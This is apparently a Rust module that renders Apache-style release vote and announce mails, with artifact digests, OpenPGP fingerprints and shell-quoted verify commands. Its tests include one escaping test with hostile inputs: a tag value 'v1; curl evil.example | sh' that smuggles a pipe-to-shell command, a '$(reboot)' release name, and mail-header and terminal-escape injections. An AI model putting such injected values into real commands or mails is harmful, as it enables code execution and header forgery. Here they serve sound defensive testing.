//! The vote and announce mail of a release.
//!
//! A release manager sends two mails about a release: the call for a vote
//! on a candidate (`[VOTE] Release Apache Demo 1.4.0 rc2`) and, once it
//! passed, the announcement (`[ANNOUNCE] Apache Demo 1.4.0 released`).
//! Both say what voters and users need to check the bytes themselves, the
//! way the Apache "\[VOTE\] Release X" template and the Mesos and MXNet
//! release guides do: the tag and commit, where the artifacts are, each
//! artifact's size and SHA-512, the OpenPGP key's fingerprint (grouped as
//! `gpg --fingerprint` prints it) and user ID, where KEYS lives, the
//! Sigstore signer, and the commands that download and verify the release
//! with `apostille verify`.
//!
//! [`from_manifest`] fills a [`Mail`] from `apostille-manifest.json`; the
//! caller overrides what the command line or `apostille.toml` says;
//! [`render`] writes the text.
//!
//! The text is deterministic: plain text with `\n` line ends, no trailing
//! spaces, prose wrapped at 72 columns (only the subject, hex digests, URLs
//! and commands run longer), one newline at the end, no date or time. Every
//! value taken from the input goes through
//! [`apostille_digest::display::terminal_safe`], so a control character in
//! an artifact name is shown as `\n` or `\x1b` and can neither forge a mail
//! header line nor drive the reader's terminal, and every value put into a
//! command is shell-quoted when it is not a plain word.

use std::path::{Path, PathBuf};

use apostille_digest::display::terminal_safe;
use serde::Deserialize;

/// Prose width.
const WIDTH: usize = 72;

/// Which mail.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum MailKind {
    /// `[VOTE] Release …`: the call for a vote on a candidate.
    Vote,
    /// `[ANNOUNCE] … released`: the announcement of a release.
    Announce,
}

/// One artifact of the release.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct MailArtifact {
    /// File name.
    pub name: String,
    /// Size in bytes.
    pub size: u64,
    /// SHA-512, hex.
    pub sha512: String,
}

/// The OpenPGP key that signs the release.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct MailSigner {
    /// The primary key's fingerprint, hex.
    pub fingerprint: String,
    /// Its primary user ID (`Alice <alice@example.org>`).
    pub user_id: Option<String>,
}

/// What a vote or announce mail says.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Mail {
    /// Vote or announce.
    pub kind: MailKind,
    /// The project (`Apache Demo`): from the configuration, else the
    /// release name.
    pub project: String,
    /// The release's name (`apache-demo-1.4.0-rc2`), also the folder the
    /// verify recipe downloads into.
    pub release_name: String,
    /// The version (`1.4.0`).
    pub version: Option<String>,
    /// The candidate (`rc2`) when the release is one.
    pub candidate: Option<String>,
    /// The source tag (`v1.4.0-rc2`).
    pub tag: Option<String>,
    /// The source commit, hex.
    pub commit: Option<String>,
    /// The artifacts.
    pub artifacts: Vec<MailArtifact>,
    /// The OpenPGP signer.
    pub pgp: Option<MailSigner>,
    /// The Sigstore signer, described (`key sha256:3f…`, or the identity
    /// and issuer of a keyless signer).
    pub sigstore: Option<String>,
    /// Where the project's KEYS file is.
    pub keys_url: Option<String>,
    /// Where the artifacts are.
    pub dist_url: Option<String>,
    /// How long the vote is open, in hours (72 by default).
    pub vote_hours: u32,
}

/// Why a manifest could not be read into a [`Mail`]. Each names the file.
#[derive(Debug, thiserror::Error)]
pub enum AnnounceError {
    /// Not JSON, or not shaped like a manifest.
    #[error("{}: not a release manifest: {message}", shown(path))]
    Malformed {
        /// The manifest.
        path: PathBuf,
        /// What the JSON parser said.
        message: String,
    },
    /// `release.name` is missing.
    #[error("{}: the manifest has no release.name", shown(path))]
    NoReleaseName {
        /// The manifest.
        path: PathBuf,
    },
    /// An artifact has no `digests.sha512`.
    #[error("{}: artifact {} has no SHA-512 (digests.sha512)", shown(path), terminal_safe(name.as_bytes()))]
    NoSha512 {
        /// The manifest.
        path: PathBuf,
        /// The artifact, as the manifest names it.
        name: String,
    },
}

fn shown(path: &Path) -> String {
    use std::os::unix::ffi::OsStrExt;
    terminal_safe(path.as_os_str().as_bytes()).into_owned()
}

#[derive(Deserialize)]
struct ManifestDoc {
    release: Option<ReleaseDoc>,
    signers: Option<SignersDoc>,
    announce: Option<AnnounceDoc>,
    #[serde(default)]
    artifacts: Vec<ArtifactDoc>,
}

#[derive(Deserialize)]
struct ReleaseDoc {
    name: Option<String>,
    version: Option<String>,
    candidate: Option<String>,
    tag: Option<String>,
    commit: Option<String>,
}

#[derive(Deserialize)]
struct SignersDoc {
    pgp: Option<PgpDoc>,
    sigstore: Option<String>,
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct PgpDoc {
    fingerprint: String,
    user_id: Option<String>,
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct AnnounceDoc {
    project: Option<String>,
    keys_url: Option<String>,
    dist_url: Option<String>,
}

#[derive(Deserialize)]
struct ArtifactDoc {
    name: String,
    size: u64,
    digests: Option<DigestsDoc>,
}

#[derive(Deserialize)]
struct DigestsDoc {
    sha512: Option<String>,
}

/// A vote mail ([`MailKind::Vote`], 72 hours) filled from the manifest
/// `bytes` read from `path`: the release's name, version, candidate, tag
/// and commit, the signers, the `announce` settings and the artifacts.
/// The project is `announce.project`, else the release name. Other fields
/// of the manifest are ignored; the caller overrides what it knows better.
pub fn from_manifest(path: &Path, bytes: &[u8]) -> Result<Mail, AnnounceError> {
    let doc: ManifestDoc = serde_json::from_slice(bytes).map_err(|e| AnnounceError::Malformed {
        path: path.to_path_buf(),
        message: e.to_string(),
    })?;
    let release = doc.release.ok_or_else(|| AnnounceError::NoReleaseName {
        path: path.to_path_buf(),
    })?;
    let release_name = release.name.ok_or_else(|| AnnounceError::NoReleaseName {
        path: path.to_path_buf(),
    })?;
    let artifacts = doc
        .artifacts
        .into_iter()
        .map(|a| match a.digests.and_then(|d| d.sha512) {
            Some(sha512) => Ok(MailArtifact {
                name: a.name,
                size: a.size,
                sha512,
            }),
            None => Err(AnnounceError::NoSha512 {
                path: path.to_path_buf(),
                name: a.name,
            }),
        })
        .collect::<Result<Vec<_>, _>>()?;
    let (pgp, sigstore) = match doc.signers {
        Some(s) => (
            s.pgp.map(|p| MailSigner {
                fingerprint: p.fingerprint,
                user_id: p.user_id,
            }),
            s.sigstore,
        ),
        None => (None, None),
    };
    let (project, keys_url, dist_url) = match doc.announce {
        Some(a) => (a.project, a.keys_url, a.dist_url),
        None => (None, None, None),
    };
    Ok(Mail {
        kind: MailKind::Vote,
        project: project.unwrap_or_else(|| release_name.clone()),
        release_name,
        version: release.version,
        candidate: release.candidate,
        tag: release.tag,
        commit: release.commit,
        artifacts,
        pgp,
        sigstore,
        keys_url,
        dist_url,
        vote_hours: 72,
    })
}

/// `s` escaped (see the module documentation) and trimmed.
fn esc(s: &str) -> String {
    terminal_safe(s.trim().as_bytes()).trim().to_string()
}

/// An optional value escaped, or `None` when it is missing or blank.
fn opt(s: &Option<String>) -> Option<String> {
    s.as_deref().map(esc).filter(|s| !s.is_empty())
}

/// `s` as one shell word: unchanged when it is plain, else single-quoted.
fn sh(s: &str) -> String {
    let plain = !s.is_empty()
        && s.chars()
            .all(|c| c.is_ascii_alphanumeric() || "@%+=:,./_-~".contains(c))
        && !s.starts_with('~');
    if plain {
        s.to_string()
    } else {
        format!("'{}'", s.replace('\'', "'\\''"))
    }
}

/// `n` bytes for people, in binary units with one decimal rounded half
/// up (`0 B`, `1023 B`, `1.0 KiB`, `1.5 MiB`, `2.0 GiB`).
pub fn human_size(n: u64) -> String {
    const UNITS: [&str; 6] = ["KiB", "MiB", "GiB", "TiB", "PiB", "EiB"];
    if n < 1024 {
        return format!("{n} B");
    }
    let n = u128::from(n);
    let mut unit = 0;
    let mut div: u128 = 1024;
    while unit + 1 < UNITS.len() && n >= div * 1024 {
        div *= 1024;
        unit += 1;
    }
    let mut tenths = (n * 10 + div / 2) / div;
    if tenths >= 10240 && unit + 1 < UNITS.len() {
        div *= 1024;
        unit += 1;
        tenths = (n * 10 + div / 2) / div;
    }
    format!("{}.{} {}", tenths / 10, tenths % 10, UNITS[unit])
}

/// A fingerprint as `gpg --fingerprint` prints it: upper-case hex in
/// groups of four, a v4 fingerprint (40 hex) with a double space in the
/// middle. Anything that is not hex is shown escaped, as it is.
pub fn group_fingerprint(fingerprint: &str) -> String {
    let compact: String = fingerprint.chars().filter(|c| !c.is_whitespace()).collect();
    let hex = compact
        .strip_prefix("0x")
        .or_else(|| compact.strip_prefix("0X"))
        .unwrap_or(&compact);
    if hex.is_empty() || !hex.chars().all(|c| c.is_ascii_hexdigit()) {
        return esc(fingerprint);
    }
    let hex = hex.to_ascii_uppercase();
    let mut out = String::with_capacity(hex.len() * 5 / 4 + 1);
    for (i, c) in hex.chars().enumerate() {
        if i > 0 && i % 4 == 0 {
            out.push(' ');
            if hex.len() == 40 && i == 20 {
                out.push(' ');
            }
        }
        out.push(c);
    }
    out
}

/// `text` wrapped at [`WIDTH`] columns; a word longer than that keeps a
/// line of its own.
fn wrap(text: &str) -> String {
    let mut out = String::new();
    let mut line = 0;
    for word in text.split(' ').filter(|w| !w.is_empty()) {
        let len = word.chars().count();
        if line > 0 && line + 1 + len > WIDTH {
            out.push('\n');
            line = 0;
        } else if line > 0 {
            out.push(' ');
            line += 1;
        }
        out.push_str(word);
        line += len;
    }
    out
}

/// Lines indented by two spaces.
fn indented<I: IntoIterator<Item = String>>(lines: I) -> String {
    lines
        .into_iter()
        .map(|l| format!("  {l}"))
        .collect::<Vec<_>>()
        .join("\n")
}

/// What is released: `Apache Demo 1.4.0`, or without a version the release
/// name (after the project when they differ).
fn title(project: &str, release_name: &str, version: Option<&str>) -> String {
    match (version, project.is_empty(), release_name.is_empty()) {
        (Some(v), false, _) => format!("{project} {v}"),
        (Some(v), true, false) => format!("{release_name} {v}"),
        (Some(v), true, true) => v.to_string(),
        (None, false, false) if project != release_name => format!("{project} ({release_name})"),
        (None, false, _) => project.to_string(),
        (None, true, false) => release_name.to_string(),
        (None, true, true) => "the release".to_string(),
    }
}

/// The mail's text (see the module documentation).
pub fn render(mail: &Mail) -> String {
    let vote = mail.kind == MailKind::Vote;
    let release_name = esc(&mail.release_name);
    let project = esc(&mail.project);
    let project = if project.is_empty() {
        release_name.clone()
    } else {
        project
    };
    let version = opt(&mail.version);
    let what = title(&project, &release_name, version.as_deref());
    // Without a version, the release name usually holds the candidate.
    let candidate =
        opt(&mail.candidate).filter(|c| vote && (version.is_some() || !what.contains(c.as_str())));
    let tag = opt(&mail.tag);
    let commit = opt(&mail.commit);
    let dist = opt(&mail.dist_url);
    let keys_url = opt(&mail.keys_url);
    let sigstore = opt(&mail.sigstore);
    let pgp = mail.pgp.as_ref().and_then(|p| {
        let fpr = group_fingerprint(&p.fingerprint);
        (!fpr.is_empty()).then(|| (fpr, opt(&p.user_id)))
    });

    let mut blocks: Vec<String> = Vec::new();

    // Subject.
    let subject = if vote {
        let mut s = format!("[VOTE] Release {what}");
        if let Some(c) = &candidate {
            s.push(' ');
            s.push_str(c);
        }
        s
    } else {
        format!("[ANNOUNCE] {what} released")
    };
    blocks.push(format!("Subject: {subject}"));
    blocks.push("Hello,".into());

    // What and from where.
    blocks.push(wrap(&if vote {
        match &candidate {
            Some(c) => {
                format!("This is a call for a vote on releasing {what} (release candidate {c}).")
            }
            None => format!("This is a call for a vote on releasing {what}."),
        }
    } else {
        format!("We are pleased to announce the release of {what}.")
    }));
    let source = match (&tag, vote) {
        (Some(t), true) => Some(format!("The tag to be voted upon is {t}")),
        (Some(t), false) => Some(format!("The release is tagged {t}")),
        (None, true) if commit.is_some() => Some("The commit to be voted upon is".into()),
        (None, false) if commit.is_some() => Some("The release is built from the commit".into()),
        (None, _) => None,
    };
    if let Some(source) = source {
        match &commit {
            Some(c) => {
                let lead = if tag.is_some() {
                    format!("{source}, at commit:")
                } else {
                    format!("{source}:")
                };
                blocks.push(wrap(&lead));
                blocks.push(indented([c.clone()]));
            }
            None => blocks.push(wrap(&format!("{source}."))),
        }
    }
    if let Some(d) = &dist {
        blocks.push(if vote {
            "The release artifacts are at:".into()
        } else {
            "The release can be downloaded from:".into()
        });
        blocks.push(indented([d.clone()]));
    }

    // The artifacts.
    if !mail.artifacts.is_empty() {
        blocks.push(if mail.artifacts.len() == 1 {
            "The artifact, with its size and SHA-512:".into()
        } else {
            "The artifacts, with their sizes and SHA-512:".into()
        });
        let mut lines = Vec::new();
        for a in &mail.artifacts {
            let name = esc(&a.name);
            lines.push(if name.is_empty() {
                "(no name)".into()
            } else {
                name
            });
            let bytes = if a.size == 1 {
                "1 byte".to_string()
            } else {
                format!("{} bytes", a.size)
            };
            lines.push(if a.size < 1024 {
                format!("  {bytes}, SHA-512:")
            } else {
                format!("  {bytes} ({}), SHA-512:", human_size(a.size))
            });
            let sha = esc(&a.sha512);
            lines.push(format!(
                "  {}",
                if sha.is_empty() { "(none)" } else { &sha }
            ));
        }
        blocks.push(indented(lines));
    }

    // The signers.
    let signed = if mail.artifacts.len() == 1 {
        "The artifact is"
    } else {
        "The artifacts are"
    };
    if let Some((fpr, uid)) = &pgp {
        blocks.push(format!("{signed} signed with the OpenPGP key"));
        let mut lines = vec![fpr.clone()];
        if let Some(u) = uid {
            lines.push(format!("({u})"));
        }
        blocks.push(indented(lines));
    }
    if let Some(k) = &keys_url {
        blocks.push(format!("KEYS: {k}"));
    }
    if let Some(s) = &sigstore {
        blocks.push(if pgp.is_some() {
            format!("{signed} also signed with Sigstore, by")
        } else {
            format!("{signed} signed with Sigstore, by")
        });
        blocks.push(indented([s.clone()]));
    }

    // How to verify.
    let keys = pgp.is_some() || keys_url.is_some();
    let mut intro = match &dist {
        Some(_) => "To verify the release, run in an empty folder".to_string(),
        None => "To verify the release, download the artifacts with everything \
                 beside them (checksums, signatures, apostille-manifest.json) into \
                 a new folder and run in it"
            .to_string(),
    };
    if keys && keys_url.is_none() {
        intro.push_str(", with the project's KEYS file saved as KEYS in the folder above it");
    }
    intro.push(':');
    blocks.push(wrap(&intro));
    let mut cmds = Vec::new();
    match (&dist, &keys_url) {
        (Some(d), k) => {
            if let Some(k) = k {
                cmds.push(format!("curl -fsSL -o KEYS {}", sh(k)));
            }
            let folder = if release_name.is_empty() {
                "release".to_string()
            } else if release_name.starts_with('-') {
                format!("./{release_name}")
            } else {
                release_name.clone()
            };
            let folder = sh(&folder);
            cmds.push(format!("mkdir {folder} && cd {folder}"));
            cmds.push(format!(
                "wget -r -np -nd -e robots=off -R 'index.html*' {}",
                sh(d)
            ));
        }
        (None, Some(k)) => cmds.push(format!("curl -fsSL -o ../KEYS {}", sh(k))),
        (None, None) => {}
    }
    let mut verify = "apostille verify .".to_string();
    if keys {
        verify.push_str(" --keys ../KEYS");
    }
    if let Some(t) = &tag {
        verify.push_str(" --source-tag ");
        verify.push_str(&sh(t));
    }
    cmds.push(verify);
    blocks.push(indented(cmds));

    // The vote.
    if vote {
        blocks.push(wrap(&format!(
            "Please vote on releasing this package as {what}:"
        )));
        blocks.push(indented([
            format!("[ ] +1 Release this package as {what}"),
            "[ ] +0 No opinion".to_string(),
            "[ ] -1 Do not release this package because ...".to_string(),
        ]));
        blocks.push(wrap(&format!(
            "The vote will be open for at least {} {}.",
            mail.vote_hours,
            if mail.vote_hours == 1 {
                "hour"
            } else {
                "hours"
            }
        )));
    }
    blocks.push("Thanks.".into());

    let mut out = String::new();
    for block in &blocks {
        for line in block.lines() {
            out.push_str(line.trim_end());
            out.push('\n');
        }
        out.push('\n');
    }
    out.pop();
    out
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    const SRC_SHA: &str = "62e767ed69c281adc641314fd9009434414c48e62432aab370a7e55e87f5c37d9b76fd8451070a67c8349dff2696be94eeb56435224d495a3db88b1561a458aa";
    const ZIP_SHA: &str = "31bcb3689db89447613ce64ea44cfa02b3148ae8ee44b53eab4bab4ee56f87c8c8d2cc43aead1280aa0b99634388fb6af4473d95e2b58b0b9c9bf2449f431e57";
    const BIN_SHA: &str = "366a354fb04c48739b0af9287c0005b0ebab2fb17871e4f817dc449ec3f2fea3993ac3641a62d55807cb7e8cfd802a05d6549814a9e2a3f6285dd72e5640d4a7";
    const FPR: &str = "89E495E7941CF9E40E6980D14A16BF023CCD4C91";
    const COMMIT: &str = "4015b57a143aec5156fd1444a017a32137a3fd0f";

    fn manifest(name: &str, candidate: Option<&str>, tag: &str, dist: &str) -> Vec<u8> {
        let mut release = serde_json::json!({
            "name": name, "version": "1.4.0", "series": "1.4",
            "tag": tag, "commit": COMMIT,
        });
        if let Some(c) = candidate {
            release["candidate"] = serde_json::json!(c);
        }
        serde_json::to_vec_pretty(&serde_json::json!({
            "manifestVersion": 1,
            "generator": "apostille 0.9.0",
            "created": "2026-11-30T12:00:00Z",
            "release": release,
            "signers": {
                "pgp": {"fingerprint": FPR, "signingKey": "0123456789ABCDEF0123456789ABCDEF01234567",
                        "userId": "Alice Example (CODE SIGNING KEY) <alice@example.org>"},
                "sigstore": "key sha256:3f9b1c0d8e7a6f5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a1b"
            },
            "announce": {
                "project": "Apache Demo",
                "keysUrl": "https://downloads.apache.org/demo/KEYS",
                "distUrl": dist
            },
            "artifacts": [
                {"name": "apache-demo-1.4.0-src.tar.gz", "size": 1_264_640,
                 "digests": {"sha256": "00", "sha512": SRC_SHA}},
                {"name": "apache-demo-1.4.0-src.zip", "size": 1_611_922,
                 "digests": {"sha256": "00", "sha512": ZIP_SHA}},
                {"name": "apache-demo-1.4.0-bin.tar.gz", "size": 48_234_496,
                 "digests": {"sha256": "00", "sha512": BIN_SHA}}
            ],
            "outputs": [{"name": "SHA256SUMS", "kind": "checksum", "size": 1, "sha256": "00"}]
        }))
        .unwrap()
    }

    fn golden(name: &str, actual: &str) {
        let path = Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("../../testdata/announce")
            .join(name);
        if std::env::var_os("APOSTILLE_BLESS").is_some_and(|v| v == "1") {
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(&path, actual).unwrap();
            return;
        }
        let expected = std::fs::read_to_string(&path)
            .unwrap_or_else(|e| panic!("{}: {e} (APOSTILLE_BLESS=1 writes it)", path.display()));
        assert_eq!(
            actual, expected,
            "{name} differs (APOSTILLE_BLESS=1 rewrites it)"
        );
    }

    /// The shape rules of the module documentation.
    fn check_shape(text: &str) {
        assert!(text.ends_with('\n') && !text.ends_with("\n\n"), "{text}");
        assert!(!text.contains("\n\n\n"), "{text}");
        assert!(!text.contains("None"), "{text}");
        assert!(!text.contains('\r'));
        assert!(text.is_ascii(), "{text}");
        for line in text.lines() {
            assert_eq!(line, line.trim_end(), "trailing space: {line:?}");
            let long_ok = line.starts_with("Subject: ")
                || line.starts_with("  [ ] +1 ")
                || line.contains("://")
                || line
                    .split(' ')
                    .any(|w| w.len() >= 40 && w.chars().all(|c| c.is_ascii_hexdigit()));
            assert!(line.chars().count() <= 80 || long_ok, "long line: {line:?}");
        }
    }

    fn vote_mail() -> Mail {
        let path = Path::new("rc2/apostille-manifest.json");
        from_manifest(
            path,
            &manifest(
                "apache-demo-1.4.0-rc2",
                Some("rc2"),
                "v1.4.0-rc2",
                "https://dist.apache.org/repos/dist/dev/demo/1.4.0-rc2/",
            ),
        )
        .unwrap()
    }

    #[test]
    fn from_manifest_reads_every_field() {
        let m = vote_mail();
        assert_eq!(m.kind, MailKind::Vote);
        assert_eq!(m.project, "Apache Demo");
        assert_eq!(m.release_name, "apache-demo-1.4.0-rc2");
        assert_eq!(m.version.as_deref(), Some("1.4.0"));
        assert_eq!(m.candidate.as_deref(), Some("rc2"));
        assert_eq!(m.tag.as_deref(), Some("v1.4.0-rc2"));
        assert_eq!(m.commit.as_deref(), Some(COMMIT));
        assert_eq!(m.artifacts.len(), 3);
        assert_eq!(m.artifacts[0].sha512, SRC_SHA);
        assert_eq!(m.artifacts[0].size, 1_264_640);
        let pgp = m.pgp.as_ref().unwrap();
        assert_eq!(pgp.fingerprint, FPR);
        assert!(pgp.user_id.as_deref().unwrap().starts_with("Alice Example"));
        assert!(m.sigstore.as_deref().unwrap().starts_with("key sha256:"));
        assert_eq!(
            m.keys_url.as_deref(),
            Some("https://downloads.apache.org/demo/KEYS")
        );
        assert_eq!(m.vote_hours, 72);
    }

    #[test]
    fn vote_mail_matches_golden() {
        let text = render(&vote_mail());
        check_shape(&text);
        assert!(text.starts_with("Subject: [VOTE] Release Apache Demo 1.4.0 rc2\n\n"));
        assert!(text.contains(&format!("\n    {SRC_SHA}\n")));
        assert!(text.contains("89E4 95E7 941C F9E4 0E69  80D1 4A16 BF02 3CCD 4C91"));
        assert!(text.contains("apostille verify . --keys ../KEYS --source-tag v1.4.0-rc2\n"));
        assert!(text.contains("open for at least 72 hours."));
        golden("vote.txt", &text);
    }

    #[test]
    fn announce_mail_matches_golden() {
        let path = Path::new("1.4.0/apostille-manifest.json");
        let mut mail = from_manifest(
            path,
            &manifest(
                "apache-demo-1.4.0",
                None,
                "v1.4.0",
                "https://downloads.apache.org/demo/1.4.0/",
            ),
        )
        .unwrap();
        mail.kind = MailKind::Announce;
        let text = render(&mail);
        check_shape(&text);
        assert!(text.starts_with("Subject: [ANNOUNCE] Apache Demo 1.4.0 released\n\n"));
        assert!(!text.contains("vote") && !text.contains("[ ]"));
        golden("announce.txt", &text);
    }

    #[test]
    fn announce_leaves_out_the_candidate() {
        let mut mail = vote_mail();
        mail.kind = MailKind::Announce;
        let text = render(&mail);
        check_shape(&text);
        assert!(!text.contains(" rc2 ") && !text.contains("candidate"));
    }

    #[test]
    fn minimal_manifest_renders_cleanly() {
        let bytes = format!(
            r#"{{"release": {{"name": "demo-0.1"}},
                "artifacts": [{{"name": "demo-0.1.tar.gz", "size": 10,
                                "digests": {{"sha512": "{SRC_SHA}"}}}}]}}"#
        );
        let mail = from_manifest(Path::new("m.json"), bytes.as_bytes()).unwrap();
        assert_eq!(mail.project, "demo-0.1");
        for kind in [MailKind::Vote, MailKind::Announce] {
            let text = render(&Mail {
                kind,
                ..mail.clone()
            });
            check_shape(&text);
            assert!(!text.contains("KEYS"), "{text}");
            assert!(
                !text.contains("--source-tag") && !text.contains("tag"),
                "{text}"
            );
            assert!(
                !text.contains("OpenPGP") && !text.contains("Sigstore"),
                "{text}"
            );
            assert!(!text.contains("()") && !text.contains("  \n"), "{text}");
            assert!(text.contains("    10 bytes, SHA-512:\n"), "{text}");
            assert!(text.contains("\n  apostille verify .\n"), "{text}");
        }
        let vote = render(&mail);
        assert!(vote.starts_with("Subject: [VOTE] Release demo-0.1\n\nHello,\n\n"));
        assert!(vote.contains("releasing demo-0.1."));
    }

    #[test]
    fn blank_values_are_left_out() {
        let mut mail = vote_mail();
        mail.tag = Some("  ".into());
        mail.commit = Some(String::new());
        mail.dist_url = Some(String::new());
        mail.keys_url = None;
        mail.sigstore = Some(" ".into());
        mail.pgp = Some(MailSigner {
            fingerprint: FPR.into(),
            user_id: Some(String::new()),
        });
        let text = render(&mail);
        check_shape(&text);
        assert!(!text.contains("tag") && !text.contains("commit"), "{text}");
        assert!(!text.contains("Sigstore") && !text.contains("()"), "{text}");
        assert!(
            text.replace('\n', " ")
                .contains("saved as KEYS in the folder above it:"),
            "{text}"
        );
        assert!(
            text.contains("\n  apostille verify . --keys ../KEYS\n"),
            "{text}"
        );
    }

    #[test]
    fn hostile_values_are_escaped() {
        let mut mail = vote_mail();
        mail.artifacts[0].name = "evil.tar.gz\nSubject: [VOTE] fake\x1b[2J".into();
        mail.project = "Apache\r\nBcc: x@example.org".into();
        mail.pgp = Some(MailSigner {
            fingerprint: "not\nhex".into(),
            user_id: Some("Mallory\x1b]0;t\x07 <m@example.org>".into()),
        });
        mail.tag = Some("v1; curl evil.example | sh".into());
        mail.release_name = "$(reboot)".into();
        let text = render(&mail);
        assert!(
            !text.chars().any(|c| c.is_control() && c != '\n'),
            "{text:?}"
        );
        assert_eq!(
            text.lines().filter(|l| l.starts_with("Subject:")).count(),
            1
        );
        assert!(!text.lines().any(|l| l.starts_with("Bcc:")));
        assert!(
            text.contains("evil.tar.gz\\nSubject: [VOTE] fake\\x1b[2J"),
            "{text}"
        );
        assert!(text.contains("Apache\\r\\nBcc: x@example.org"), "{text}");
        assert!(text.contains("  not\\nhex\n"), "{text}");
        assert!(
            text.contains("(Mallory\\x1b]0;t\\x07 <m@example.org>)"),
            "{text}"
        );
        assert!(
            text.contains("--source-tag 'v1; curl evil.example | sh'\n"),
            "{text}"
        );
        assert!(
            text.contains("mkdir '$(reboot)' && cd '$(reboot)'\n"),
            "{text}"
        );
    }

    #[test]
    fn without_a_version_the_name_carries_the_candidate() {
        let mut mail = vote_mail();
        mail.version = None;
        let text = render(&mail);
        check_shape(&text);
        assert!(
            text.starts_with("Subject: [VOTE] Release Apache Demo (apache-demo-1.4.0-rc2)\n"),
            "{text}"
        );
        assert!(!text.contains("candidate rc2"), "{text}");
    }

    #[test]
    fn shell_words_are_quoted() {
        assert_eq!(sh("v1.4.0-rc2"), "v1.4.0-rc2");
        assert_eq!(sh("https://x.example/a_b/"), "https://x.example/a_b/");
        assert_eq!(sh("it's"), "'it'\\''s'");
        assert_eq!(sh(""), "''");
        assert_eq!(sh("~root"), "'~root'");
    }

    #[test]
    fn from_manifest_errors_name_the_file() {
        let path = Path::new("dist/apostille-manifest.json");
        let cases: [&[u8]; 5] = [
            b"{not json",
            br#"{"release": {"version": "1"}, "artifacts": []}"#,
            br#"{"artifacts": []}"#,
            br#"{"release": {"name": "x"}, "artifacts": [{"name": "a.tgz", "size": 1, "digests": {"sha256": "00"}}]}"#,
            br#"{"release": {"name": "x"}, "artifacts": [{"name": "a.tgz", "size": "big"}]}"#,
        ];
        for bytes in cases {
            let e = from_manifest(path, bytes).unwrap_err();
            assert!(
                e.to_string().starts_with("dist/apostille-manifest.json: "),
                "{e}"
            );
        }
        let e = from_manifest(path, cases[3]).unwrap_err();
        assert!(matches!(e, AnnounceError::NoSha512 { ref name, .. } if name == "a.tgz"));
        assert!(e.to_string().contains("a.tgz"), "{e}");
        assert!(matches!(
            from_manifest(path, cases[1]).unwrap_err(),
            AnnounceError::NoReleaseName { .. }
        ));
        let e = from_manifest(
            path,
            br#"{"release": {"name": "x"}, "artifacts": [{"name": "a\u001b.tgz", "size": 1}]}"#,
        )
        .unwrap_err();
        assert!(e.to_string().contains("a\\x1b.tgz"), "{e}");
    }

    #[test]
    fn fingerprints_are_grouped_like_gpg() {
        assert_eq!(
            group_fingerprint("89e495e7941cf9e40e6980d14a16bf023ccd4c91"),
            "89E4 95E7 941C F9E4 0E69  80D1 4A16 BF02 3CCD 4C91"
        );
        assert_eq!(
            group_fingerprint("0x89E4 95E7 941C F9E4 0E69  80D1 4A16 BF02 3CCD 4C91"),
            "89E4 95E7 941C F9E4 0E69  80D1 4A16 BF02 3CCD 4C91"
        );
        let v6 = "c9ca43e8d8d3a3f6f0f6b3e1a2c5b7d9e8f7a6b5c4d3e2f1a0b9c8d7e6f5a4b3";
        assert_eq!(
            group_fingerprint(v6),
            "C9CA 43E8 D8D3 A3F6 F0F6 B3E1 A2C5 B7D9 E8F7 A6B5 C4D3 E2F1 A0B9 C8D7 E6F5 A4B3"
        );
        assert_eq!(group_fingerprint("ABCDEF"), "ABCD EF");
        assert_eq!(group_fingerprint("z\nz"), "z\\nz");
        assert_eq!(group_fingerprint(""), "");
    }

    #[test]
    fn human_sizes() {
        assert_eq!(human_size(0), "0 B");
        assert_eq!(human_size(1023), "1023 B");
        assert_eq!(human_size(1024), "1.0 KiB");
        assert_eq!(human_size(1536), "1.5 KiB");
        assert_eq!(human_size(1_264_640), "1.2 MiB");
        assert_eq!(human_size(3 * 1024 * 1024 / 2), "1.5 MiB");
        assert_eq!(human_size(2 * 1024 * 1024 * 1024), "2.0 GiB");
        assert_eq!(human_size(1024 * 1024 - 1), "1.0 MiB");
        assert_eq!(human_size(1127), "1.1 KiB");
        assert_eq!(human_size(u64::MAX), "16.0 EiB");
    }

    #[test]
    fn prose_wraps_at_72_columns() {
        let mut mail = vote_mail();
        mail.project = "The Apache Software Foundation's Extremely Long Named Demo Project".into();
        let text = render(&mail);
        check_shape(&text);
        for line in text
            .lines()
            .filter(|l| !l.starts_with(' ') && !l.starts_with("Subject"))
        {
            assert!(line.len() <= WIDTH, "{line:?}");
        }
    }
}
